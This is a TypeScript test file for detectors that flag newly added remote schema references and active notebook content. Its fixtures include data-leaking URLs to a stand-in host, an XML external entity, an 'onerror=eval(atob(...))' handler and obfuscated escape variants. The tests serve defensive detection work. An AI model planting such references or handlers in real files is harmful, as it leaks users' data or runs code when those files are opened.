import { expect, test } from 'vitest';
import { addsActiveNotebookContent, addsRemoteReference } from './remote-reference.ts';

const addsReference = (after: string, before = ''): boolean =>
  addsRemoteReference({ before, after });

test.each([
  ['a JSON schema', '{ "$schema": "https://e.test/?d=secret" }'],
  ['a JSON schema over HTTP', '{ "$schema": "HTTP://e.test/s.json" }'],
  ['a JSON schema on another line than its key', '{ "$schema"\n  :\n  "https://e.test/s.json" }'],
  [
    'a JSON schema after comments',
    '{ "$schema" /* : */ : // why\n /* * */ "https://e.test/s.json" }',
  ],
  [
    'a JSON schema after an overlong block comment',
    `{ "$schema": /*${' '.repeat(5_000)}*/ "https://e.test" }`,
  ],
  ['a JSON schema after an overlong gap', `{ "$schema":${' '.repeat(5_000)}"https://e.test" }`],
  [
    'a YAML schema after an overlong comment',
    `$schema: # ${'a b '.repeat(1_000)}\n  https://e.test\n`,
  ],
  ['a folded YAML schema after a comment', '$schema: >- # why\n  https://e.test/s.json\n'],
  [
    'a JSON schema in escape sequences',
    String.raw`{ "\u0024sch\u0065ma": "h\u0074tps:\/\/e.test\/s" }`,
  ],
  ['a JSON schema with a leading space', '{ "$schema": " https://e.test/s.json" }'],
  ['a JSON schema with a protocol-relative address', '{ "$schema": "//e.test/s.json" }'],
  ['a JSON schema on a network share', String.raw`{ "$schema": "\\\\e.test\\s.json" }`],
  ['a file URI with a host', '{ "$schema": "file://e.test/s.json" }'],
  ['a JSON schema in a virtual file system', '{ "$schema": "vscode-vfs://github/o/r/s.json" }'],
  ['a reference from a JSON schema', '{ "items": { "$ref": "https://e.test/s.json#/a" } }'],
  ['a YAML schema in a modeline', '# yaml-language-server: $schema=https://e.test/s.json\na: 1\n'],
  [
    'a YAML modeline with a space before the address',
    '# yaml-language-server: $schema= https://e.test/s.json\n',
  ],
  ['a YAML schema in a comment', '# $schema: https://e.test/s.json\n'],
  ['a quoted YAML key', "'$schema': https://e.test/s.json\n"],
  ['a folded YAML schema', '$schema: >-\n  https://e.test/s.json\n'],
  ['a YAML schema with a tag and an anchor', '$schema: !!str &a https://e.test/s.json\n'],
  ['a YAML schema through an alias', 'x: &u https://e.test\n$schema: *u\n'],
  ['a YAML schema in escape sequences', String.raw`"\x24schema": "\U00000068ttps://e.test"`],
  ['a YAML schema across an escaped line break', '"$schema": "htt\\\n  ps://e.test"'],
  ['a TOML schema', '#:schema https://e.test/s.json\n'],
  ['an XML schema', '<a xsi:schemaLocation="urn:a https://e.test/a.xsd">'],
  [
    'an XML schema with another prefix',
    "<a\n  x:noNamespaceSchemaLocation\n=\n' http://e.test/a.xsd'>",
  ],
  [
    'an XML schema with character references',
    '<a xsi:schemaLocation="urn:a &#104;ttps://e.test/a.xsd">',
  ],
  ['an included XML schema', '<xs:include schemaLocation="https://e.test/a.xsd"/>'],
  ['a document type', '<!DOCTYPE a SYSTEM "https://e.test/a.dtd">'],
  ['a public document type', '<!doctype a PUBLIC "-//A//B" "//e.test/a.dtd">'],
  ['an external entity', '<!DOCTYPE a [\n<!ENTITY % x SYSTEM "https://e.test/?d=1"> ]>'],
  ['an XML model', '<?xml-model href="https://e.test/a.rng"?>'],
  ['an XML style sheet', "<?xml-stylesheet href='https://e.test/a.xsl'?>"],
])('addsRemoteReference reports %s as a remote reference', (_, after) => {
  expect(addsReference(after)).toBe(true);
});

test.each([
  ['a schema next to the file', '{ "$schema": "./schema.json" }'],
  ['a schema on this machine', '{ "$schema": "file:///w/schema.json" }'],
  ['a VS Code schema', '{ "$schema": "vscode://schemas/settings" }'],
  ['a reference inside the schema', '{ "$ref": "#/definitions/a" }'],
  ['an address that editors do not fetch', '{ "homepage": "https://e.test" }'],
  ['the key in prose', 'The `$schema` key, see https://e.test.'],
  ['a longer key', '{ "$schemaVersion": "https://e.test" }'],
  ['the HTML document type', '<!DOCTYPE html>\n<a href="https://e.test">x</a>'],
  ['a public identifier', '<!DOCTYPE a PUBLIC "-//A//B" "a.dtd">'],
  ['a schema next to the document', '<a xsi:schemaLocation="urn:a a.xsd" href="https://e.test">'],
  ['plain code', 'const a = await fetch("https://e.test");\n'],
])('addsRemoteReference does not report %s as a remote reference', (_, after) => {
  expect(addsReference(after)).toBe(false);
});

test('addsRemoteReference reports only references that the change adds or makes remote', () => {
  const remoteSchema = '{\n  "$schema": "https://e.test/s.json"\n}\n';
  expect(addsReference(remoteSchema.replace('"\n}', '",\n  "a": 1\n}'), remoteSchema)).toBe(false);
  expect(addsReference('{}\n', remoteSchema)).toBe(false);
  expect(addsReference(remoteSchema, remoteSchema.replace('$schema', 'schema'))).toBe(true);
  expect(addsReference(remoteSchema, remoteSchema.replace('https://e.test/', './'))).toBe(true);
  expect(addsReference(remoteSchema.replace('s.json', 's.json?d=1'), remoteSchema)).toBe(true);
  expect(addsReference('a: &u https://e.test\n$schema: *u', 'a: &u x\n$schema: *u')).toBe(true);
});

test.each([
  ['$schema', true],
  ['$schema:', true],
  ['$schema/*', true],
  ['$schema: &a !b > ', true],
  ['$schema: #', true],
  ['<!DOCTYPE ', true],
  ['schemaLocation="', true],
  [String.raw`\u0024`, false],
  ['/* ', false],
])('addsRemoteReference scans 400,000 repetitions of %s in linear time', (unit, expected) => {
  expect(addsReference(unit.repeat(400_000))).toBe(expected);
});

const createNotebook = (cell: object): string => JSON.stringify({ cells: [cell], nbformat: 4 });

const addsCell = (text: string, ...cellsBefore: readonly string[]): boolean =>
  addsActiveNotebookContent({
    before: '',
    after: text,
    cells: { before: cellsBefore, after: [...cellsBefore, text] },
  });

test.each([
  ['an image', '![tide](https://e.test/?q=secret)'],
  ['an image with brackets in its text', '![a [b] c](https://e.test/?q=1)'],
  ['an image with a long text', `![${'a'.repeat(5_000)}](https://e.test/?q=1)`],
  ['an image without a scheme', '![a](//e.test/a.png)'],
  ['an image with a backslash in its address', String.raw`![a](/\e.test/a.png)`],
  ['an image with a character reference', '![a](&#104;ttps:e.test)'],
  ['an image whose address has no slashes', '![a](https:e.test)'],
  ['an HTML image whose address has a line break', '<img src="/\n/e.test/?q=1">'],
  ['an HTML image with an escape sequence', String.raw`<img src="\/e.test">`],
  ['a definition of an image', '![a][x]\n\n- [x]: <https://e.test/?q=1>'],
  ['an HTML image', '<img\nsrc="https://e.test/?q=1">'],
  ['an event handler', '<img src=x onerror="eval(atob(1))">'],
  ['an event handler of a tag for text', '<b onclick="a()">'],
  ['a style sheet', '<link rel=stylesheet href=a.css>'],
  ['a frame', '<iframe src=a.html>'],
  ['a background image', '<div class="a" style="background: url(//e.test)">'],
  ['an SVG image', '<svg><image href="https://e.test"/></svg>'],
  ['a link with a style', '<a href="x" style="background: url(//e.test)">'],
  ['a link that ends in another tag', '<a href="x"><img src=a></a>'],
  ['a diagram', '```mermaid\nA@{ img: "https://e.test" }\n```'],
  ['a diagram whose name has a character reference', '```&#109;ermaid\nA@{ img: "//e.test" }\n```'],
  ['HTML in the text of a local image', '![<img src="https://e.test" alt="](a.png)">'],
  ['a diagram in the text of a local image', '![\n~~~ a\n](a.png) <b c>'],
  ['an address that is an element', '<div>\n<https://onmouseover=a()>\n</div>'],
  ['a mail address that is an element', '<div>\n<x@/onmouseover=a()>\n</div>'],
  ['text that looks like a notebook', '{"cells":[],"a":"<img src=\'https://e.test\'>"}'],
])('a notebook gains active content with %s', (_, text) => {
  expect(addsCell(text)).toBe(true);
  expect(addsCell(text, text)).toBe(false);
  expect(addsCell(`${text} more`, text)).toBe(true);
  for (const source of [text, text.split(/(?<=\n)/u)]) {
    const notebook = createNotebook({ cell_type: 'markdown', source });
    const addsNotebook = (after: string, before = ''): boolean =>
      addsActiveNotebookContent({ before, after });
    expect(addsNotebook(notebook)).toBe(true);
    expect(addsNotebook(notebook, notebook)).toBe(false);
    expect(addsNotebook(`\uFEFF${notebook.replaceAll('!', String.raw`\u0021`)}`)).toBe(true);
    expect(addsNotebook(createNotebook({ cell_type: 'code', source }))).toBe(false);
  }
});

test.each([
  ['HTML', { output_type: 'display_data', data: { 'text/html': ['<b>1</b>'] } }],
  ['SVG', { output_type: 'execute_result', data: { 'image/svg+xml': '<svg/>' } }],
  ['a script', { output_type: 'display_data', data: { 'application/javascript': '1' } }],
  ['a widget', { output_type: 'display_data', data: { 'application/vnd.a+json': {} } }],
  ['a link in an error', { output_type: 'error', traceback: ["<a href='#'><img src=x></a>"] }],
  [
    'a tag in an error that is split by a color',
    { output_type: 'error', traceback: ['\u001B[0mFile a:1', '<\u001B[41mimg src=x>'] },
  ],
  [
    'a quote in a file name of an error',
    { output_type: 'error', traceback: ["File x' style='background:url(//e.test)' b:1", '1 x'] },
  ],
  ['an unknown type', { output_type: 'other' }],
])('a notebook gains active content with an output with %s', (_, output) => {
  const notebook = createNotebook({ cell_type: 'code', outputs: [output] });
  expect(addsActiveNotebookContent({ before: '', after: notebook })).toBe(true);
  expect(addsActiveNotebookContent({ before: notebook, after: notebook })).toBe(false);
});

test.each([
  ['a link', '[tide](https://e.test), https://e.test and <https://e.test/?a=1>'],
  ['a local image', '![Tide](images/tide-1.png) ![a](attachment:a.png)\n\nNote: $\\alpha$ & more.'],
  ['HTML without an address', '<b>a</b><br><h1 align="center">Tides</h1> a < b'],
  ['an HTML link', '<a href="https://e.test/a?b=1">tide</a>'],
])('a notebook gains no active content with %s', (_, text) => {
  expect(addsCell(text)).toBe(false);
  const after = createNotebook({ cell_type: 'markdown', source: text });
  expect(addsActiveNotebookContent({ before: '', after })).toBe(false);
});

test('a notebook gains no active content with code and plain outputs', () => {
  const source = 'while lo<hi:\n    requests.get("https://e.test")';
  const outputs = [
    { output_type: 'stream', text: ['<b>https://e.test'] },
    { output_type: 'display_data', data: { 'text/plain': '1', 'image/png': 'x' } },
    { output_type: 'error', traceback: ['\u001B[0;31mValueError\u001B[0m: 1 < 2', 'File a.py:2'] },
  ];
  const after = createNotebook({ cell_type: 'code', source, outputs });
  expect(addsActiveNotebookContent({ before: '', after })).toBe(false);
});
